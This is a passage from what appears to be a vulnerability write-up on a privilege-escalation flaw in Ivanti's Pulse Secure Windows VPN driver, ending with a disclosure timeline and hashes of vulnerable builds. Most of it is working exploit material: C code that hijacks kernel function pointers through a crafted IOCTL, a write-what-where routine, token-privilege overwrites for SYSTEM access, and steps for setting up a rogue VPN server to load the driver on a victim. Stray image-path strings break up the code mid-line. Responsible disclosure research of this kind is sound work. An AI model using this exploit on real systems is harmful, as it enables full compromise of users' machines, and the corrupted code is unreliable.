Next, before we try to perform anything malicious, we have to confirm we can actually perform the thread lock up that we theorized above. To achieve this we set up the first 2 function pointers with pointers to a kernel function that is harmless and doesn’t crash. Ideally a function that takes no arguments. We went with HalMakeBeep. The last function pointer to lock up the thread will be KxWaitForSpinLockAndAcquire, as described above.

We add the following to our c file:

 *  WARNING: Keep in mind these offsets are valid only for the kernel
 *           version that I'm targeting during testing.
#define BEEP_OFFSET 0x4b8c60#define SPIN_OFFSET 0x361fe0

uint8_t *ntoskrnl_base = get_kernelbase();
buff_28h[(0x50 / sizeof(uint64_t)) + (0x20 / sizeof(uint64_t))] = ntoskrnl_base + BEEP_OFFSET;
buff_28h[(0x50 / sizeof(uint64_t)) + (0x10 / sizeof(uint64_t))] = ntoskrnl_base + BEEP_OFFSET;
buff_28h[(0x50 / sizeof(uint64_t)) + (0x28 / sizeof(uint64_t))] = ntoskrnl_base + SPIN_OFFSET;

Lastly we have to not forget to pass a locked spinlock object to KxWaitForSpinLockAndAcquire to make it lock up the thread. In the case of the third function call, the first argument (in RCX) points to our buff_28h buffer at an offset of +0x50. The spin lock value can be any non-zero value, but a simple 1 will do. This gives us one more line to add:

buff_28h[(0x50 / sizeof(uint64_t))] = 1;

Putting it all together and executing it should let you run the exploit without crashing the system. In addition to that you should be able to see the calls to HalMakeBeep and KxWaitForSpinLockAndAcquire inside of the debugger.

Write What Where

Having a working exploit that can call two functions before locking itself is great, but we’re still a long way off an actual exploit. Next we will work towards getting a write-what-where primitive using the previous code as a base.

As discussed in the Constraints section, we have very limited control over the arguments passed to the first and second function. The first function in particular has little to no useful input to play around with. For this reason we limited our exploitation efforts on just the second function call. As mentioned in the constraints section, the following arguments are passed to the second function call:

  • RCX - Is always a pointer to the buffer going into each 3 of the kernel function pointer calls. This pointer points to the buffer holding our function pointers starting at offset +0x10 aswell as our spinlock object in the first 8 bytes. This gives us nearly no realistic space to play around with.
  • RDX - This is a pointer to a memoryarea that we control that was passed into IoCsqRemoveIrp from the user-mode input buffer.
  • R8 - The third argument. This register’s value is always set to the IOCTL code of 0x80002018 and as such pretty much unusable. Not only that, it actually almost always prevents us from calling any function with 3 or more arguments. Furthermore, R8 is often used inside of kernel api functions. If we want to use it, we have to be very careful with selecting functions that are called before the second one as it may alter the state of R8.

Converting this single heavily constrained call to a meaningful exploit primitive was a challenge to say the least. After a hefty bit of searching and trial and error, looking for creative ways of escaping the constraints, we identified a pair of functionscalled write_char_0 and write_char_1  (names vary between kernel versions):


Unlike most functions thatdeal with reading from buffers or writing to buffers, these functions take a pointer to a pointer to an area of memory as the second argument. This just so happens to be exactly the argument we have the most control over, nice! In addition to that, the first argument is a 1 or 2 byte integer that is written to that address and r8 is a pointer to a counter variable.

Great luck on getting a function that makes great use of the second argument, but the first and third argument don’t exactly match the arguments that we can provide to it. The first argument we pass to the function is a pointer, while it expects an integer. The third argument we pass to the function is an integer (the IOCTL value of 0x80002018), while it expects a pointer. No stress, we can fix this.

Making the first argument not only function as a pointer but also hold the byte or word value, in its lowest 2 bytes, that we want to write is possible. We just make the pointer start at an offset that equals the byte or word we want to write in its lowest 2 bytes. We can use the following code to do that:

uint64_t *buff_28h = ((uint8_t *)VirtualAlloc(NULL, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE)) + 0x100 + /*byte we want to write*/ - 0x50;

The argument in R8 is expected to be an accessible pointer, but we provide a static integer 0x80002018. Luckily for us, this value is also a valid user-mode memory address on 64-bit and as such we can map it:

VirtualAlloc(0x80002018, 4096 * 8, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE)

With control over allthe arguments, it is now possible to call this function and provide it a pointer to anywhere in memory and write a byte there. Implementing all the previous research into a function that writes a byte in kernel through the Ivanti vpn driver:

struct byte_ver
    HANDLE hdev;
    uint64_t target;
    uint8_t  byte;

write_byte(struct byte_ver *bv)
    size_t returned_bytes;
    uint64_t *input_buffer      = calloc(0x100, 1);
    uint64_t *initial_buffer    = calloc(0x100, 1);
    uint64_t *buff_30h          = calloc(0x100, 1);
    uint64_t *iocsq_rsi_plus_8h = calloc(0x100, 1);

     *  Configuring the pointer to hold the byte we want to write
     *  in the LSB. -0x50 at the end to compensate for the +0x50
     *  that is done inside the driver code
    uint64_t *buff_28h = ((uint8_t *)VirtualAlloc(NULL, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE)) + 0x100 + bv->byte - 0x50;

    input_buffer[0]                             = initial_buffer;
    initial_buffer[0x28 / sizeof(uint64_t)]     = buff_28h;
    initial_buffer[0x30 / sizeof(uint64_t)]     = buff_30h;iocsq_rsi_plus_8h[0]                        = bv->target;
    iocsq_rsi_plus_8h[0x68 / sizeof(uint64_t)]  = 1;
    iocsq_rsi_plus_8h[0x18 / sizeof(uint64_t)]  = 1; // Required to pass a check in write_char_0
    iocsq_rsi_plus_8h[0x08 / sizeof(uint64_t)]  = 0x1000; // Required to pass a check in write_char_0

    buff_30h[(0x08 / sizeof(uint64_t))]         = iocsq_rsi_plus_8h;
    buff_28h[(0x50 / sizeof(uint64_t))]         = 1; // Locked spin lock object

     *  Setting Function pointers
    buff_28h[(0x50 / sizeof(uint64_t)) + (0x20 / sizeof(uint64_t))] = NTOSKRNL_BASE + TEST_SPIN_OFFSET;
    buff_28h[(0x50 / sizeof(uint64_t)) + (0x10 / sizeof(uint64_t))] = NTOSKRNL_BASE + WRITE_BYTE_OFFSET;
    buff_28h[(0x50 / sizeof(uint64_t)) + (0x28 /sizeof(uint64_t))] = NTOSKRNL_BASE + SPIN_OFFSET;

    DeviceIoControl(bv->hdev, VULN_IOCTL, input_buffer, 0x100, NULL, 0, &returned_bytes , NULL);

    printf("This printf will never execute, unless we manually lift and fix the spinlock\n");

Escalating privileges

What’s a vulnerability without a full PoC exploit. Now that we have a write-what-where primitive we are pretty much golden. There is a sufficient selection of methods you can use to move from a write-what-where to full escalation of privileges, some more cumbersome than others. For this proof of concept we elected to go with the road of least resistance: overwriting the attacking process’ enabled and present privileges in the token object and spawning a shell.

The necessary steps for this are:

  1. Opening the token of our current process.

OpenProcessToken(GetCurrentProcess(), TOKEN_ADJUST_PRIVILEGES | TOKEN_QUERY, &hTok);1. Finding the kernel pointer for this token object using the SystemExtendedHandleInformation class in the NtQuerySystemInformation API.

PVOID GetObjectPointerByHandle(HANDLE h)
    DWORD pid                       = GetCurrentProcessId();

    // Query all the open handles on the system
    NTSTATUS status = ntQuerySystemInformation(SystemExtendedHandleInformation, pHandleInfo, bufferSize, NULL);
    if (!NT_SUCCESS(status))
                ... error checking ...

     *  Loop through the handles and find the one that matches the specified handle
     *  and belongs to the current process
    for (int i = 0; i < pHandleInfo->NumberOfHandles; i++)
        PSYSTEM_HANDLE_TABLE_ENTRY_INFO_EX pHandleEntry = &(pHandleInfo->Handles[i]);
        if (pid == pHandleEntry->UniqueProcessId && pHandleEntry->HandleValue == h)
            return pHandleEntry->Object;return NULL;

  1. Use the write primitive to overwrite the TOKEN->_SEP_TOKEN_PRIVILEGES->Enabled and TOKEN->_SEP_TOKEN_PRIVILEGES->Present fields to grant system level privileges to our process.

    write_mem('q', token_ptr+0x48, 0x0000001ff2ffffbc);
    write_mem('q', token_ptr+0x40, 0x0000001ff2ffffbc);

  1. Spawn your shell and test yourprivileges:



Enabling the vulnerable driver

In the wild the vulnerable driver is often not enabled by default. In fact, it’s disabled by default. Usually, drivers cannot be enabled from a low-privileged user mode context. However, the vulnerabledriver of Ivanti can be. The vulnerable driver is automatically started when a user on the victim machine connects to a VPN server that has TDI fail-over enabled. We can quite easily start the driver ourselves by replicating that behaviour, as one that want’s to exploit the vulnerability likely has already compromised the system and is running malware on it.

Download evaluation image

First, we need to spin up an Ivanti Secure Access VPN evaluation server. Download a VM image of your choice here.

Install evaluation server

Install the downloaded VM image on a VPS or locally. Ensure that you can point a domain name to it(we’ll use in this guide from now on). If you locally install it, you can use port forwarding to point a domain to it.

Boot the VM image and complete the setup you are prompted with. When finished, you can access the admin portal (web).

Configure a valid certificate

Obtain a valid certificate for your rogue server domain (e.g. You can use Let’s Encrypt for this. Once you’ve obtained a fullchain.pem and privkey.pem, upload them to the admin portal.

System -> Configuration -> Certificates -> Device certificate

  1. Delete the self-signed pre-configured one.
  2. Upload your valid certificate via “Import Certificate & Key…”.
  3. Configure your certificate to be used by the internal & external port.


Client Certificate Configuration

  1. Upload the correct intermediate certificate to prevent certificate validation errors client-side. For example, use this one for Let’s Encrypt certificates.Client Certificate Configuration

Restrict VPN & configure TDI-failover

  1. Navigate to “Users” -> “User Roles” -> “Users”.
  2. On the “Overview” tab, uncheck all Access Features besides “Secure Application Manager & Windows/Mac version sub-item”.


Disable Access Features

  1. On the same page, navigate to the “SAM” -> “Options” tab.
  2. Enable “Enable fail-over to TDI for Pulse SAM connection”.Enable TDI failover

Create a VPN user

  1. Navigate to the “Authentication” -> “Auth. Servers” -> “System Local” -> “Users” tab.
  2.Create a new user with static username and password of your choice (the victim will use it to connect to your rogue VPN).


Create VPN user

Let victim connect to the rogue server

Connect the victim to your rogue server. Connect to it by supplying the URL (e.g., username/password of the user you created, and the realm which that user is in (Users is the local user realm by default).

"%programfiles(x86)%\Common Files\Pulse Secure\Integration\pulselauncher.exe" -url YOUR_DOMAIN -u YOUR_USER -p YOUR_PASS -r Users

For example

"%programfiles(x86)%\Common Files\Pulse Secure\Integration\pulselauncher.exe" -url -u steve -p Welcome01! -r Users

Stop the VPN client

Before running the privilege esclation exploit, stop the VPN client. Otherwise memory corruptions will take place.

"%programfiles(x86)%\Common Files\Pulse Secure\Integration\pulselauncher.exe" -stop


  • 16-03-2023 – Initial notice to DIVD
  • 20-03-2023 – First reply from Ivanti regarding their responsible disclosure policy
  • 13-06-2023 – Northwave shares vulnerability details and PoC with Ivanti
  • 09-09-2023 – Ivanti notifies Northwave of planned patch release date
  • 17-10-2023 – Planned Vendor Patch Release (not achieved)
  • 09-11-2023 – Vendor Patch Release
  • 09-11-2023 – Public Release

Indicators of Compromise (IoC)

We’ve tested the version 9 branch up to 9.1R15 and the version 22 branch up to 22.4R2. Thus, we know that at least the installers and drivers below are vulnerable. Besides that, Ivanti confirmed to us that all versions up to 9.1R18 and 22.6R1 are vulnerable.

Verified vulnerable installer MD5 hash(es):

  • MD5 (ps-pulse-win-22.2r1.0-b1295-64bit-installer.msi) = 3e27a3529f09192e70dbb95fc9bb7a83
  • MD5 (ps-pulse-win-22.3r1.0-b18209-64bit-installer.msi) = 5f3ff8aee04ea3270081004829dd201e
  • MD5 (ps-pulse-win-22.4R2.0-64bit-installer.msi) = 4259223d69c7fb0aef3ff5bb4bf488ff
  • MD5 (ps-pulse-win-9.0r5.0-b1907-64bitinstaller.msi) = 432df70eb10f1cb11fd7e6c3167821d4
  • MD5 (ps-pulse-win-9.1r11.4-b8575-64bitinstaller.msi) = 57297937616c918802d04c3709f02d13
  • MD5 (ps-pulse-win-9.1r14.0-b13525-64bit-installer.msi) = c012c88f7cfd741b51b72b4445212b2d
  • MD5 (ps-pulse-win-9.1r15.0-b15819-64bit-installer.msi) = 8f9da1466cb5415a45a512341549b12e
  • MD5 (ps-pulse-win-9.1r7.0-b2525-64bitinstaller.msi) = 7430639a2a96a95839953d456b69fdba

Verified vulnerable driver MD5hash(es):

  • MD5 (all installers have the same driverhash) =7da16447a3d200c8c3ed056828a62e1e